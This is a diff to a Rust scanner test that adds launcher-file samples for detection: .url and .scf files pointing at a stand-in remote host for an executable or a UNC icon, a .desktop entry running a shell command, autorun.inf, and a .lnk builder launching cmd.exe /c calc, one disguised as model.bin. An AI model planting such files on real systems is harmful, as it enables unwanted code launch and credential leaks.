@@ -34,6 +34,30 @@ pub(super) fn elf() -> Vec<u8> {
     [identity, header, segment, vec![0x90; 100]].concat()
 }
 
+/// Texts that a desktop opens by starting something.
+const SHORTCUTS: &[(&str, &str, &str)] = &[
+    ("internet shortcut to a program", "docs.url", "[InternetShortcut]\r\nURL=file://192.0.2.1/s/x.exe\r\n"),
+    (
+        "picture of another machine",
+        "docs.url",
+        "[InternetShortcut]\nURL=https://example.org/\nIconFile=\\\\192.0.2.1\\x.ico\n",
+    ),
+    ("desktop entry", "model.desktop", "[Desktop Entry]\nType=Application\nName=x\nExec=sh -c 'id'\n"),
+    ("shell command file", "x.scf", "[Shell]\nCommand=2\nIconFile=\\\\192.0.2.1\\x.ico\n"),
+    ("autorun", "autorun.inf", "[autorun]\nopen=setup.exe\n"),
+    ("registry", "x.reg", "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]\r\n"),
+];
+
+/// A shortcut of Windows with a relative target and arguments.
+fn shortcut(target: &str, arguments: &str) -> Vec<u8> {
+    let class = b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".to_vec();
+    let text = |text: &str| {
+        let units: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
+        [words(&[(2, text.len() as u64)]), units].concat()
+    };
+    [class, words(&[(4, 0xa8)]), vec![0; 52], text(target), text(arguments), vec![0; 4]].concat()
+}
+
 fn portable_executable() -> Vec<u8> {
     let stub = [b"MZ".to_vec(), vec![0; 58], words(&[(4, 128)]), vec![0; 64]].concat();
     let header = words(&[(2, 0x8664), (2, 1), (4, 0), (4, 0), (4, 0), (2, 240), (2, 0x22), (2, 0x20b)]);
@@ -89,5 +113,10 @@ fn programs_and_scripts_in_everything() {
             samples.push(Sample::new(format!("{what} in {holder}"), name, bytes));
         }
     }
+    for (title, name, text) in SHORTCUTS {
+        samples.push(Sample::new(*title, *name, text.as_bytes().to_vec()));
+    }
+    samples.push(Sample::new("shortcut", "README.lnk", shortcut("cmd.exe", "/c calc")));
+    samples.push(Sample::new("shortcut with another ending", "model.bin", shortcut("cmd.exe", "/c calc")));
     assert_seen("programs", &samples);
 }
